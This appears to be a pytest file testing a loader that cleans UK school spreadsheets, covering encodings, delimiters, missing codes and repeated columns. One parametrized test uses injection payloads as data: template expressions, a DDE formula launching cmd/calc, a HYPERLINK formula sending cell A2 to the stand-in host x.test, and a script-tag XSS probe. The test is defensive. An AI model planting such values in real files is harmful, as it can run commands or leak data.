"""What spreadsheets and other systems write, through the one tabular reader: encodings decided per file and said,
Excel's BOMs, UTF-16 'Unicode text', semicolons, CR-only lines, 'sep=,' lines, trailing empty columns, number
spellings, 'Total' rows, NULL and SPSS missing codes, repeated columns, control characters, over-long names, and
template or formula text kept as text."""
import codecs

import pytest

from load_support import error_line, query, run_load
from repaudit.load import load_file

SEN_HEADER = "time_period,URN,Total pupils,SEN support,EHC plan"


def reasons(result) -> dict[int, str]:
    return dict(zip(result.rejects.row_number, result.rejects.reason))


def gias(tmp_path, body: bytes, name="edubasealldata20240901.csv"):
    path = tmp_path / name
    path.write_bytes(body)
    return path


# --- encodings ---------------------------------------------------------------------------------------------------

def test_one_windows_1252_line_in_a_utf8_file_is_read_as_such_and_named(tmp_path, wh):
    body = ("URN,EstablishmentName\n100001,Ysgol Gymraeg Bro Dinefwr – é\n".encode("utf-8")
            + "100002,St Thomas à Becket School\n".encode("cp1252")
            + "100003,Plain School\n".encode("utf-8"))
    result = load_file(wh, "gias", gias(tmp_path, body))
    names = wh.df("SELECT urn, name FROM schools ORDER BY urn").name.tolist()
    assert names == ["Ysgol Gymraeg Bro Dinefwr – é", "St Thomas à Becket School", "Plain School"]
    assert ("read as UTF-8 except 1 line in Windows-1252 (row 3): the rest of the file is UTF-8, as after an Excel "
            "round trip; check those rows' text") in result.notes


def test_a_windows_1252_file_is_read_whole_and_the_note_says_why(tmp_path, wh):
    body = "URN,EstablishmentName\n100001,Plain School\n100002,St Thomas à Becket School\n".encode("cp1252")
    result = load_file(wh, "gias", gias(tmp_path, body))
    assert wh.df("SELECT name FROM schools WHERE urn = 100002").name[0] == "St Thomas à Becket School"
    assert "read as Windows-1252: not valid UTF-8 (first non-UTF-8 byte 0xe0 on row 3)" in result.notes


def test_text_in_another_single_byte_encoding_is_refused_naming_the_row(tmp_path, runner):
    body = "URN,EstablishmentName\n100001,Plain\n100002,Школа номер один\n".encode("cp1251")
    path = gias(tmp_path, body)
    line = error_line(run_load(runner, tmp_path, "gias", path))
    assert line.startswith(f"Error: {path}, row 3: is neither UTF-8 nor plausible Windows-1252 text: ")
    assert "(first non-UTF-8 byte 0xd8 on row 3); save it as 'CSV UTF-8' and load it again" in line


def test_utf8_with_bom_reads_its_first_column(tmp_path, wh):
    body = codecs.BOM_UTF8 + "URN,EstablishmentName\n100001,Café School\n".encode("utf-8")
    result = load_file(wh, "gias", gias(tmp_path, body))
    assert wh.df("SELECT urn, name FROM schools").values.tolist() == [[100001, "Café School"]]
    assert result.notes == []


def test_utf16_tab_separated_unicode_text_from_excel(tmp_path, wh):
    text = f"{SEN_HEADER.replace(',', chr(9))}\r\n202122\t100001\t794\t54\t10\r\n"
    path = tmp_path / "sen.txt"
    path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    result = load_file(wh, "sen", path)
    assert "read as UTF-16: the file starts with a UTF-16 byte-order mark (as Excel saves 'Unicode text')" in result.notes
    stored = wh.df("SELECT indicator, numerator, denominator FROM school_indicators ORDER BY indicator")
    assert stored.values.tolist() == [["ehcp", 10, 794], ["sen_support", 54, 794]]


# --- delimiters and line endings ------------------------------------------------------------------------------------

def test_semicolon_separated_file_without_decimal_commas_loads_with_a_note(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER.replace(",", ";") + "\n202122;100001;794;54;10\n")
    result = load_file(wh, "sen", path)
    assert "read as separated by semicolons (as Excel writes CSV in a European locale)" in result.notes
    assert wh.count("school_indicators") == 2


def test_semicolon_separated_file_with_decimal_commas_is_read_with_a_note(tmp_path, runner):
    path = tmp_path / "IoD2019_scores.csv"
    path.write_text("LSOA code (2011);IDACI Score\nE01000001;0,085\nE01000002;0,105\n")
    result = run_load(runner, tmp_path, "iod", path)
    assert result.exit_code == 0, result.output
    assert "2 numbers written with a decimal comma (such as '0,085') in 'IDACI Score' read with '.'" in result.output
    assert query(tmp_path, "SELECT lsoa, score FROM lsoa_deprivation ORDER BY lsoa").values.tolist() == [
        ["E01000001", 0.085], ["E01000002", 0.105]]


def test_cr_only_line_endings_of_old_mac_files(tmp_path, runner):
    path = tmp_path / "sen.csv"
    path.write_bytes((SEN_HEADER + "\r202122,100001,794,54,10\r202122,100002,745,-1,22\r").encode())
    result = run_load(runner, tmp_path, "sen", path)
    assert result.exit_code == 0, result.output
    assert "2 rows read = 1 loaded + 1 rejected + 0 skipped" in result.output
    rejected = query(tmp_path, "SELECT row_number, reason FROM rejects").values.tolist()
    assert rejected == [[3, "SEN support count -1 is negative: a missing-value code? leave the cell empty or write "
                            "x for a missing count"]]


def test_excel_sep_line_is_skipped_and_rows_keep_their_line_numbers(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text("sep=;\n" + SEN_HEADER.replace(",", ";") + "\n202122;100001;794;54;10\n202122;abc;1;1;1\n")
    result = load_file(wh, "sen", path)
    assert "first line 'sep=;' (Excel's note of the delimiter) skipped" in result.notes
    assert reasons(result) == {4: "URN 'abc' is not a number"}


def test_trailing_empty_columns_are_ignored_with_a_note(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER + ",,,\n202122,100001,794,54,10,,,\n")
    result = load_file(wh, "sen", path)
    assert "3 unnamed columns at the end of the header ignored" in result.notes
    assert (result.rows_loaded, result.rows_rejected) == (1, 0)


# --- cell spellings ---------------------------------------------------------------------------------------------

def test_thousands_separators_percent_signs_and_exponents(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER + '\n202122,100001,"1,296",1.2E+02,10\n')
    load_file(wh, "sen", path)
    stored = wh.df("SELECT indicator, numerator, denominator FROM school_indicators ORDER BY indicator")
    assert stored.values.tolist() == [["ehcp", 10, 1296], ["sen_support", 120, 1296]]


def test_percent_signs_say_the_scale(tmp_path, wh):
    path = tmp_path / "IoD2019_scores.csv"
    path.write_text("LSOA code (2011),IDACI Score\nE01000001,0.5%\nE01000002,12.5%\n")
    result = load_file(wh, "iod", path)
    assert wh.df("SELECT score FROM lsoa_deprivation ORDER BY lsoa").score.tolist() == pytest.approx([0.005, 0.125])
    assert ("'IDACI Score' is on a 0-100 scale (0-100 percentages; its cells carry '%'): divided by 100 to give "
            "proportions") in result.notes


def test_a_trailing_total_row_is_rejected_as_a_total(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER + "\n202122,100001,794,54,10\n202122,Total,794,54,10\n")
    result = load_file(wh, "sen", path)
    assert reasons(result) == {3: "a 'Total' row (URN 'Total'), not a school: totals are not loaded"}


def test_sql_server_null_and_spss_dot_are_missing_with_their_reason(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER + "\n202122,100001,794,NULL,.\n")
    result = load_file(wh, "sen", path)
    stored = wh.df("SELECT indicator, numerator, missing_reason FROM school_indicators ORDER BY indicator")
    assert stored.fillna(-1).values.tolist() == [["ehcp", -1, "not available (SPSS missing '.')"],
                                                 ["sen_support", -1, "not available (NULL)"]]
    assert "1 sen_support counts missing, reason kept: 1 not available (NULL)" in result.notes


# --- repeated columns -------------------------------------------------------------------------------------------

def test_a_repeated_column_the_loader_reads_is_an_error_naming_it(tmp_path, runner):
    path = tmp_path / "flows.csv"
    path.write_text("urn,lsoa,pupils,urn,year\n100001,E01000001,5,100002,2022\n")
    assert error_line(run_load(runner, tmp_path, "flows", path)) == (
        f"Error: {path}, column 'urn': has the column 'urn' 2 times (columns 1, 4): 'flows' reads that column and "
        "cannot tell which copy is right; delete or rename the extra copies and load the file again")


def test_a_repeated_column_spelled_differently_is_the_same_column(tmp_path, runner):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER + ",Total_Pupils\n202122,100001,794,54,10,700\n")
    line = error_line(run_load(runner, tmp_path, "sen", path))
    assert "has the column 'Total pupils' 2 times (columns 3, 6): 'sen' reads that column" in line


def test_a_repeated_column_the_loader_does_not_read_gets_a_note(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER + ",notes,notes\n202122,100001,794,54,10,a,b\n")
    result = load_file(wh, "sen", path)
    assert ("column 'notes' appears 2 times (columns 6, 7); 'sen' does not read it, so the copies were ignored"
            in result.notes)
    assert wh.count("school_indicators") == 2


# --- control characters, long names, template and formula text ------------------------------------------------------

def test_control_characters_are_removed_and_the_cells_named(tmp_path, wh):
    body = ("URN,EstablishmentName,Town\n100001,Null\x00 School,Hove\n100002,Tab\tand\x0bVT\x1b[31m,Brigh\x07ton\n"
            "100003,St Mary\u0092s School,Hove\n").encode("utf-8")
    result = load_file(wh, "gias", gias(tmp_path, body))
    names = wh.df("SELECT name FROM schools ORDER BY urn").name.tolist()
    assert names == ["Null School", "Tab\tandVT[31m", "St Mary\u2019s School"]
    assert ("control characters (NUL, ESC, vertical tab or other C0/C1 codes) removed from 3 cells: column "
            "'EstablishmentName' rows 2, 3; column 'Town' row 3") in result.notes
    assert ("C1 codes that are Windows-1252 punctuation read as Latin-1 (e.g. U+0092 for \u2019) given back their "
            "characters in 1 cell: column 'EstablishmentName' row 4") in result.notes
    assert "\x1b" not in wh.df("SELECT string_agg(raw, '') AS r FROM rejects").r.fillna("")[0]


def test_a_name_over_1000_characters_rejects_its_row(tmp_path, wh):
    body = f"URN,EstablishmentName\n100001,{'A' * 1001}\n100002,Fine School\n".encode()
    result = load_file(wh, "gias", gias(tmp_path, body))
    assert reasons(result) == {2: "EstablishmentName is 1,001 characters long: more than 1,000 is not a name, code "
                                  "or label"}
    assert wh.df("SELECT name FROM schools").name.tolist() == ["Fine School"]


@pytest.mark.parametrize("name", ["{{ 7*7 }}", "{% if 1 %}x{% endif %}", '=HYPERLINK("http://x.test/?a="&A2,"x")',
                                  "+1+cmd|' /C calc'!A0", "@SUM(1,2)", "<script>alert(1)</script>"])
def test_template_and_formula_text_is_stored_exactly_as_written(tmp_path, wh, name):
    quoted = '"' + name.replace('"', '""') + '"'
    body = f"URN,EstablishmentName,Trusts (name)\n100001,{quoted},{quoted}\n".encode()
    load_file(wh, "gias", gias(tmp_path, body))
    assert wh.df("SELECT name, trust_name FROM schools").values.tolist() == [[name, name]]


# --- quotes, commas, years ----------------------------------------------------------------------------------------

def test_an_unmatched_quote_that_swallows_rows_is_refused(tmp_path, runner):
    path = gias(tmp_path, b'URN,EstablishmentName,NumberOfPupils\n100001,"St Mary\'s,100\n100002,B,200\n100003,C,300\n')
    assert error_line(run_load(runner, tmp_path, "gias", path)) == (
        f"Error: {path}, row 2: has an unmatched quote: the value of column 'EstablishmentName' runs over 3 lines "
        "and holds what look like 2 more rows; close or remove the quote and load the file again")


def test_a_quoted_value_over_two_lines_is_kept(tmp_path, wh):
    path = gias(tmp_path, b'URN,EstablishmentName,NumberOfPupils\n100001,"Two\nLines School",100\n100002,B,200\n')
    load_file(wh, "gias", path)
    assert wh.df("SELECT name FROM schools ORDER BY urn").name.tolist() == ["Two\nLines School", "B"]


def test_a_comma_that_is_not_a_thousands_separator_is_not_removed(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER + '\n202122,100001,"1,2",1,1\n202122,100002,"12,345",1,1\n')
    result = load_file(wh, "sen", path)
    assert reasons(result) == {2: "column 'Total pupils' holds '1,2': expected a number or a suppression code",
                               3: "pupils 12,345 is above 10,000, the most pupils on one school's roll that is "
                                  "plausible (the largest in the real GIAS 2025, SPC 2022/23 and 2018 census files "
                                  "is 3,467)"}


def test_flows_read_thousands_separators_but_not_decimal_commas(tmp_path, wh):
    path = tmp_path / "flows.csv"
    path.write_text('urn,lsoa,pupils,year\n100001,E01000001,"1,2",2022\n100001,E01000002,"1,296",2022\n')
    result = load_file(wh, "flows", path)
    assert reasons(result) == {2: "pupils '1,2' is not a number"}
    assert wh.df("SELECT pupils FROM flows").pupils.tolist() == [1296]


def test_a_percentage_in_a_count_column_and_a_fractional_year_are_rejected(tmp_path, wh):
    path = tmp_path / "sen.csv"
    path.write_text(SEN_HEADER + "\n202122,100001,794,12%,1\n2022.5,100002,794,54,1\n")
    result = load_file(wh, "sen", path)
    assert reasons(result) == {2: "SEN support count 12% is a percentage, not a count of people",
                               3: "year '2022.5' is not a year such as 2022, 2022/23 or 202223"}


def test_utf8_read_as_windows_1252_and_saved_again_is_repaired_with_a_note(tmp_path, wh):
    body = "URN,EstablishmentName\n100001,St Thomas Ã\xa0 Becket School\n100002,CafÃ© and é\n".encode("utf-8")
    result = load_file(wh, "gias", gias(tmp_path, body))
    names = wh.df("SELECT name FROM schools ORDER BY urn").name.tolist()
    assert names == ["St Thomas à Becket School", "CafÃ© and é"]      # the second is not wholly mojibake: kept
    assert ("text that is UTF-8 read as Windows-1252 (such as 'Ã©' for 'é') repaired in 1 cell: column "
            "'EstablishmentName' row 2") in result.notes


def test_utf32_with_a_byte_order_mark(tmp_path, wh):
    path = tmp_path / "sen.txt"
    path.write_bytes(codecs.BOM_UTF32_LE + (SEN_HEADER + "\n202122,100001,794,54,10\n").encode("utf-32-le"))
    result = load_file(wh, "sen", path)
    assert "read as UTF-32: the file starts with a UTF-32 byte-order mark (as Excel saves 'Unicode text')" in result.notes
    assert wh.count("school_indicators") == 2


def test_a_huge_rejected_row_is_cut_in_the_rejects_table(tmp_path, wh):
    body = f"URN,EstablishmentName\n100001,{'A' * 50_000}\n".encode()
    load_file(wh, "gias", gias(tmp_path, body))
    raw = wh.df("SELECT raw FROM rejects").raw[0]
    assert raw == "100001," + "A" * 1993 + "... (50,007 characters)"


def test_xlsx_cells_get_the_same_cleaning_and_repeated_columns_check(tmp_path, wh, runner):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["LSOA code (2011)", "IDACI Score"])
    sheet.append(["E01000001", 0.1])
    sheet.append(["E01000002", 0.2])
    clean = tmp_path / "IoD2019_clean.xlsx"
    book.save(clean)
    result = load_file(wh, "iod", clean)
    assert "'IDACI Score' is on a 0-1 scale (0-1 proportions; all 2 values lie within 0-1)" in result.notes
    sheet["C1"] = "IDACI Score"
    sheet["C2"] = 0.3
    twice = tmp_path / "IoD2019_twice.xlsx"
    book.save(twice)
    assert error_line(run_load(runner, tmp_path, "iod", twice)) == (
        f"Error: {twice}, column 'IDACI Score': has the column 'IDACI Score' 2 times (columns 2, 3): 'iod' reads "
        "that column and cannot tell which copy is right; delete or rename the extra copies and load the file again")
